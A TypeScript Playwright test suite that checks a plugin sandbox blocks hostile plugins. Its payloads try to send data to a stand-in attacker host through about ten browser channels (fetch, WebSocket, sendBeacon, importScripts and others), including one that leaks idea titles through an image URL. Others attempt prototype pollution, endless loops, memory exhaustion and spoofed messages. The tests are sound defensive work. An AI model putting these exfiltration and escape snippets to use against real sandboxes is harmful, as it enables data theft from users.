import {afterAll, afterEach, beforeAll, beforeEach, expect, test} from 'vitest';
import type {Browser} from 'playwright-core';
import {hostilePlugin, hostilePlugins} from '../src/testing/index.js';
import {
  healthy,
  manifest,
  openBrowser,
  openLaboratory,
  script,
  type Laboratory,
} from './laboratory.js';

let browser: Browser;
let lab: Laboratory;
beforeAll(async () => {
  browser = await openBrowser();
});
beforeEach(async () => {
  lab = await openLaboratory(browser);
});
afterEach(() => lab.close());
afterAll(() => browser.close());

const id = 'evil.plugin';
const install = (
  setup: string,
  points: readonly string[] = [],
  {before = '', at = '/sandbox.html', asks = ['ideas:read']} = {},
) =>
  lab.page.evaluate(
    ([manifest, script, at]) => window.lab.install(manifest, script, at),
    [manifest(id, points, asks), script(id, setup, before), at] as const,
  );
const reports = () =>
  lab.page.evaluate(() =>
    window.lab.reports.map(({code, state}) => `${code} ${state}`),
  );
const said = () => lab.page.evaluate(() => window.lab.said);
const installHealthy = () =>
  lab.page.evaluate(
    ([manifest, script]) => window.lab.install(manifest, script),
    healthy('good.plugin'),
  );
const badgesNow = () =>
  lab.page.evaluate(async () => JSON.stringify(await window.lab.answers()));

/** Runs in the worker before the plugin does, with the bare port. */
const withPort = (attack: string) =>
  `addEventListener('message', ({ports: [port]}) => {${attack}});`;

test('an endless loop stops nobody else, and is ended', async () => {
  await installHealthy();
  await install(
    `ctx.contribute('ideas.card.badges', 'it', {badges() { for (;;); }});`,
    ['ideas.card.badges'],
  );
  const stall = await lab.page.evaluate(() =>
    window.lab.longestStall(() => window.lab.answers()),
  );
  expect(stall).toBeLessThan(200);
  await expect.poll(badgesNow).toContain('good.plugin');
  await expect.poll(reports).toContain('timeout active');
  await expect.poll(reports).toContain('heartbeat suspended');
});

test('a plugin that does not answer at all is started again', async () => {
  await install(
    `ctx.contribute('ideas.card.footer', 'it', {render() { for (;;); }});`,
    ['ideas.card.footer'],
  );
  await lab.page.evaluate(() => window.lab.draw());
  await expect.poll(reports).toContain('heartbeat suspended');
  await expect
    .poll(() => lab.page.evaluate((id) => window.lab.stateOf(id), id))
    .toBe('active');
});

test('the same loop in the page itself holds it up (control)', async () => {
  const stall = await lab.page.evaluate(
    async ([manifest, script]) => {
      await window.lab.trust(manifest, script);
      return window.lab.longestStall(() => window.lab.answers());
    },
    [
      manifest(id, ['ideas.card.badges']),
      script(
        id,
        `ctx.contribute('ideas.card.badges', 'it', {badges() {
          const end = Date.now() + 800; while (Date.now() < end); return {};
        }});`,
      ),
    ] as const,
  );
  expect(stall).toBeGreaterThan(700);
});

const leave = (evil: string) => `
  const quiet = (act) => { try { const did = act(); did?.catch?.(() => {}); } catch {} };
  quiet(() => fetch('${evil}/fetch', {mode: 'no-cors'}));
  quiet(() => fetch('${evil}/keepalive', {mode: 'no-cors', keepalive: true}));
  quiet(() => { const x = new XMLHttpRequest(); x.open('GET', '${evil}/xhr'); x.send(); });
  quiet(() => new EventSource('${evil}/events'));
  quiet(() => new WebSocket('${evil.replace('http', 'ws')}/socket'));
  quiet(() => importScripts('${evil}/script'));
  quiet(() => import('${evil}/import'));
  quiet(() => new Worker('${evil}/worker'));
  quiet(() => navigator.sendBeacon?.('${evil}/beacon', 'x'));
  quiet(() => new FontFace('f', 'url(${evil}/font)').load());
  ctx.log.info('tried');`;

test('nothing leaves the worker', async () => {
  await install(leave(lab.evil));
  await expect.poll(said).toHaveLength(1);
  await lab.page.waitForTimeout(500);
  expect(lab.hits).toEqual([]);
});

test('without walls it would leave (control)', async () => {
  // Taken before the second lock is put on.
  const before = `var mine = Object.getOwnPropertyDescriptor`;
  await install(`${leave(lab.evil)}`, [], {before, at: '/open.html'});
  await expect.poll(said).toHaveLength(1);
  await expect.poll(() => lab.hits.length).toBeGreaterThan(0);
});

test.each([
  ['eval', `eval('1')`],
  ['Function', `Function('return 1')()`],
])('no text becomes code with %s', async (_, attack) => {
  await install(
    `try { ${attack}; ctx.log.info('ran'); } catch (error) { ctx.log.info(error.name); }`,
  );
  await expect.poll(said).toEqual([[id, 'info', ['EvalError']]]);
});

test.each(hostilePlugins.filter((name) => hostilePlugin(name).onPort))(
  '%s ends the plugin',
  async (name) => {
    const {manifest, script, reported} = hostilePlugin(name);
    await installHealthy();
    const stall = await lab.page.evaluate(
      ([manifest, script]) =>
        window.lab.longestStall(() => window.lab.install(manifest, script)),
      [manifest, script] as const,
    );
    expect(await reports()).toEqual([`${reported} quarantined`]);
    expect(stall).toBeLessThan(1_000);
    expect(await lab.page.locator('iframe').count()).toBe(1);
    await expect.poll(badgesNow).toContain('good.plugin');
  },
);

test.each([
  'tree-bomb',
  'phishing-form',
  'carrying-picture',
  'script-link',
] as const)('%s is not drawn', async (name) => {
  const {manifest, script} = hostilePlugin(name);
  await lab.page.evaluate(
    ([manifest, script]) => window.lab.install(manifest, script),
    [manifest, script] as const,
  );
  expect(await lab.page.evaluate(() => window.lab.draw())).toBeNull();
  expect(await reports()).toEqual(['invalid-result active']);
});

test('an honest plugin is not ended (control)', async () => {
  await install('', [], {before: withPort('')});
  expect(await reports()).toEqual([]);
  expect(await lab.page.locator('iframe').count()).toBe(1);
});

test('a contribution that the manifest does not name ends the plugin', async () => {
  const contribution = {point: 'ideas.submit.guard', id: 'it', facts: {}};
  const word = JSON.stringify(JSON.stringify({t: 'add', contribution}));
  await install('', [], {
    before: withPort(`setTimeout(() => port.postMessage(${word}), 300)`),
  });
  await expect.poll(reports).toEqual(['undeclared-contribution quarantined']);
});

test('a prototype stays what it is', async () => {
  const params =
    '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
  const word = `{"t":"call","id":1,"m":"ideas.list","p":${params},"dl":1}`;
  await install('', [], {
    before: withPort(
      `setTimeout(() => port.postMessage(${JSON.stringify(word)}), 300)`,
    ),
  });
  await lab.page.waitForTimeout(600);
  expect(await lab.page.evaluate(() => 'polluted' in {})).toBe(false);
  expect(await reports()).toEqual([]);
});

test('a picture does not carry anything away', async () => {
  await install(
    `ctx.contribute('ideas.card.footer', 'it', {render: ({idea}) =>
      ({tag: 'image', props: {alt: '', src: '${lab.evil}/?' + idea.title}})});`,
    ['ideas.card.footer'],
  );
  expect(await lab.page.evaluate(() => window.lab.draw())).toBeNull();
  expect(lab.hits).toEqual([]);
});

test('what a plugin eats does not stop the page', async () => {
  await installHealthy();
  await install(
    `ctx.contribute('ideas.card.badges', 'it', {badges() {
      const all = []; for (let n = 0; n < 400; n++) all.push(new Uint8Array(1e6).fill(n));
      return {'idea-1': [{id: 'a', label: String(all.length)}]};
    }});`,
    ['ideas.card.badges'],
  );
  const stall = await lab.page.evaluate(() =>
    window.lab.longestStall(() => window.lab.answers()),
  );
  expect(stall).toBeLessThan(500);
  await expect.poll(badgesNow).toContain('good.plugin');
});

test('what comes after the end is heard by nobody', async () => {
  await install(`setInterval(() => ctx.log.info('still here'), 20)`);
  await expect.poll(async () => (await said()).length).toBeGreaterThan(0);
  await lab.page.evaluate((id) => window.lab.dispose(id), id);
  const before = (await said()).length;
  await lab.page.waitForTimeout(200);
  expect((await said()).length).toBe(before);
});

test('a page elsewhere that greets like a guard is not heard', async () => {
  await lab.page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>setInterval(() => parent.postMessage({townhall: 'guard-ready', v: [1]}, '*'), 5)</script>`;
    frame.sandbox.add('allow-scripts');
    document.body.append(frame);
  });
  await install(`ctx.log.info('in the right frame')`);
  await expect.poll(said).toHaveLength(1);
  expect(await reports()).toEqual([]);
});
